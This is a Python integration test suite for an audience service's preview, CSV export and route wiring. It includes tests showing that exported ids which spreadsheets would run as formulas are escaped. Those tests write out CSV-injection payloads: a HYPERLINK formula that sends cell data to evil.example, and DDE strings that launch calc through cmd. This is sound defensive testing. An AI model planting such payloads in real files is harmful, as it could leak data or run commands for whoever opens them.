"""Preview before saving, CSV export of members, and the template's routes reaching the handler."""
from __future__ import annotations

import base64
import csv
import hashlib
import io
import json

import pytest

from localcloud import template
from tests.integration.audience_support import (
    audience_engine,  # noqa: F401 - the `engine` fixture
    call_api,
    make_profile,
)

VIPS = {"key": "vips", "name": "VIPs", "kind": "manual"}


@pytest.fixture
def people(engine, space):
    make_profile("p1", ids={"email": "Ann@Example.com", "user_id": "1"}, traits={"plan": "pro"})
    make_profile("p2", ids={"user_id": "2"}, traits={"plan": "free"})
    make_profile("p3", ids={"email": "cy@example.com"}, traits={"plan": "pro"})
    call_api("POST", "/v1/audiences", VIPS)
    call_api("POST", "/v1/audiences/vips/members", {"add": ["user_id:1", "user_id:2", "email:cy@example.com"]})
    return engine


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_export_unformatted_formatted_and_single_column(people):
    status, body = call_api("GET", "/v1/audiences/vips/export")
    assert status == 200
    table = rows(body)
    assert table[0] == ["profile_id", "external_ids"]
    assert {r[0]: json.loads(r[1]) for r in table[1:]}["p1"] == {"email": ["Ann@Example.com"], "user_id": ["1"]}
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "formatted"})
    table = rows(body)
    assert table[0] == ["profile_id", "external_ids", "email", "user_id"]
    assert sorted(r[2:] for r in table[1:]) == [["", "2"], ["Ann@Example.com", "1"], ["cy@example.com", ""]]
    # single column: hashed by default (trimmed, lower-cased emails), raw on request
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "single_column", "id_type": "email"})
    table = rows(body)
    assert table[0] == ["email_sha256"]
    assert sorted(r[0] for r in table[1:]) == sorted(hashlib.sha256(e.encode()).hexdigest()
                                                    for e in ("ann@example.com", "cy@example.com"))
    status, body = call_api("GET", "/v1/audiences/vips/export",
                            query={"format": "single_column", "id_type": "user_id", "hash": "none"})
    assert sorted(rows(body)[1:]) == [["1"], ["2"]]
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "xlsx"})
    assert status == 400 and body["error"]["details"][0]["path"] == "format"


def test_a_small_export_says_its_csv_is_utf8_as_the_generated_file_does(people):
    # Found by review of the export's two paths: the S3 file is `text/csv; charset=utf-8`, the 200 answer was
    # bare `text/csv`, which HTTP clients read as ISO-8859-1 (requests' .text): `jérôme` came out `jÃ©rÃ´me`
    from tests.integration.audience_support import LambdaContext, handler

    make_profile("h1", ids={"email": "jérôme@example.com"})
    call_api("POST", "/v1/audiences/vips/members", {"add": ["email:jérôme@example.com"]})
    event = {"version": "2.0", "routeKey": "$default", "rawPath": "/v1/audiences/vips/export",
             "rawQueryString": "format=formatted", "queryStringParameters": {"format": "formatted"},
             "headers": {"authorization": "Basic " + base64.b64encode(b"acme-access-token:").decode()},
             "body": None, "isBase64Encoded": False,
             "requestContext": {"http": {"method": "GET", "path": "/v1/audiences/vips/export", "sourceIp": "127.0.0.1"},
                                "stage": "$default", "requestId": "r", "accountId": "123456789012"}}
    response = handler("management_api")(event, LambdaContext())
    assert response["statusCode"] == 200, response
    content_type = response["headers"]["Content-Type"]
    assert content_type == "text/csv; charset=utf-8"
    assert "jérôme@example.com" in response["body"]


def test_formatted_columns_never_share_a_name(people):
    """Found by the audiences bug hunt: id types named `profile_id` or `external_ids`, or `email_1` beside a
    profile with two emails, gave two columns of one name (a reader keyed by header keeps one of them)."""
    from engage.db import key
    from engage.profiles_store import ProfileRecord

    make_profile("odd", ids={"profile_id": "crm-7", "external_ids": "x", "email_1": "e1", "email": "a@example.com"})
    odd = ProfileRecord.get(key("acme", "odd"))
    odd.update(actions=[ProfileRecord.external_ids.set([*odd.external_ids, {
        "type": "email", "id": "b@example.com", "created_at": odd.created_at, "source": "test"}])])
    call_api("POST", "/v1/audiences/vips/members", {"add": ["profile_id:crm-7"]})
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "formatted"})
    assert status == 200
    header = rows(body)[0]
    assert len(header) == len(set(header)), header
    assert header == ["profile_id", "external_ids", "email", "email_1", "email_1 (id type)",
                      "external_ids (id type)", "profile_id (id type)", "user_id"]
    odd = next(r for r in rows(body)[1:] if r[0] == "odd")
    assert dict(zip(header, odd))["profile_id (id type)"] == "crm-7"


def test_exported_ids_a_spreadsheet_would_run_as_formulas_are_written_as_text(people):
    # Anyone who can send an identify chooses their ids: a user_id of =HYPERLINK(...) or @SUM(...) was
    # written as is, and ran as a formula for the marketer who opened the export in Excel (CSV injection)
    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1"]
    for i, value in enumerate(hostile):
        make_profile(f"h{i}", ids={"user_id": value, "phone": "+15551234567", "email": f"-h{i}@example.com"})
    make_profile("n1", ids={"user_id": "-42"})
    call_api("POST", "/v1/audiences/vips/members",
             {"add": [f"email:-h{i}@example.com" for i in range(len(hostile))] + ["user_id:-42"]})
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "formatted"})
    assert status == 200
    table = rows(body)
    column = {name: i for i, name in enumerate(table[0])}
    user_ids = {r[0]: r[column["user_id"]] for r in table[1:]}
    assert [user_ids[f"h{i}"] for i in range(len(hostile))] == ["'" + value for value in hostile]
    # ids no formula can hide in are kept as they are: numbers and phone numbers
    assert user_ids["n1"] == "-42" and user_ids["p2"] == "2"
    assert {r[column["phone"]] for r in table[1:] if r[0].startswith("h")} == {"+15551234567"}
    assert {r[column["email"]] for r in table[1:] if r[0] == "h0"} == {"'-h0@example.com"}
    # the JSON column keeps the ids exactly (it starts with {)
    assert json.loads(next(r for r in table[1:] if r[0] == "h0")[1])["user_id"] == [hostile[0]]
    status, body = call_api("GET", "/v1/audiences/vips/export",
                            query={"format": "single_column", "id_type": "user_id", "hash": "none"})
    assert sorted(r[0] for r in rows(body)[1:]) == sorted(["1", "2", "-42", *("'" + value for value in hostile)])
    # hashes are of the id itself
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "single_column", "id_type": "user_id"})
    assert hashlib.sha256(hostile[0].encode()).hexdigest() in body


def test_a_single_column_export_writes_an_id_type_a_spreadsheet_would_run_as_text(people):
    # Found by hostile ids: formatted headers were escaped, single_column's header (the id type, which any
    # source names as it likes) was not: an id type `=HYPERLINK(...)` ran as a formula in the header row
    id_type = '=HYPERLINK("http://evil.example","x")'
    make_profile("h1", ids={id_type: "v1", "email": "h1@example.com"})
    call_api("POST", "/v1/audiences/vips/members", {"add": ["email:h1@example.com"]})
    for hashing, header in (("none", "'" + id_type), ("sha256", "'" + id_type + "_sha256")):
        status, body = call_api("GET", "/v1/audiences/vips/export",
                                query={"format": "single_column", "id_type": id_type, "hash": hashing})
        assert status == 200 and rows(body)[0] == [header], body
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "formatted"})
    assert "'" + id_type in rows(body)[0]


def test_formatted_headers_stay_unique_once_escaped(people):
    # Found by hostile id types: headers were made unique, then escaped, so id types `=x` and `'=x` both
    # became the column `'=x` (spreadsheets and CSV readers keyed by header mix such columns up)
    make_profile("h1", ids={"=x": "a", "'=x": "b", "email": "h1@example.com"})
    call_api("POST", "/v1/audiences/vips/members", {"add": ["email:h1@example.com"]})
    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "formatted"})
    assert status == 200
    header = rows(body)[0]
    assert len(set(header)) == len(header), header
    assert "'=x" in header and "'=x (id type)" in header
    row = next(r for r in rows(body) if r[0] == "h1")
    assert {row[header.index("'=x")], row[header.index("'=x (id type)")]} == {"a", "b"}


def test_preview_estimates_size_and_shows_matching_profiles(people):
    status, body = call_api("POST", "/v1/audiences:preview",
                            {"condition": {"trait": "plan", "op": "eq", "value": "pro"}})
    assert status == 200, body
    # the whole (small) space was read, so the estimate is exact
    assert body["exact"] is True and body["sampled"] == 3 and body["estimated_size"] == 2
    assert sorted(s["profile_id"] for s in body["sample"]) == ["p1", "p3"]
    # nothing was saved
    assert [a["key"] for a in call_api("GET", "/v1/audiences")[1]["audiences"]] == ["all", "vips"]
    status, body = call_api("POST", "/v1/audiences:preview", {"condition": {"trait": "plan", "op": "is"}})
    assert status == 400 and body["error"]["details"][0]["path"].startswith("condition")


def test_every_management_route_in_the_template_reaches_the_handler(people):
    events = template.resources()["ManagementApiFunction"]["Properties"]["Events"]
    assert events, "ManagementApiFunction declares its routes"
    for event in events.values():
        props = event["Properties"]
        if "Path" not in props:
            continue  # the catch-all ($default) route: every path no other route matches
        path = props["Path"].replace("{key}", "vips")
        status, body = call_api(props["Method"], path, {} if props["Method"] in ("POST", "PUT") else None)
        assert not (status == 404 and "no route" in json.dumps(body)), (props, body)
